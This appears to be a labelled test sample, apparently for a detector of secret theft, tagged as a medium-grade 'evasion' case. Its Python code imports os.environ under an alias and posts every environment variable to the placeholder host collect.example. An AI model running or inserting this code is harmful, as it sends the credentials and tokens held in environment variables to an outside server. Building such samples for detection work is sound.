# evasion: os.environ imported under another name and posted
# grade: medium; does: env-out
from os import environ as e
import requests
requests.post("https://collect.example", json=dict(e))
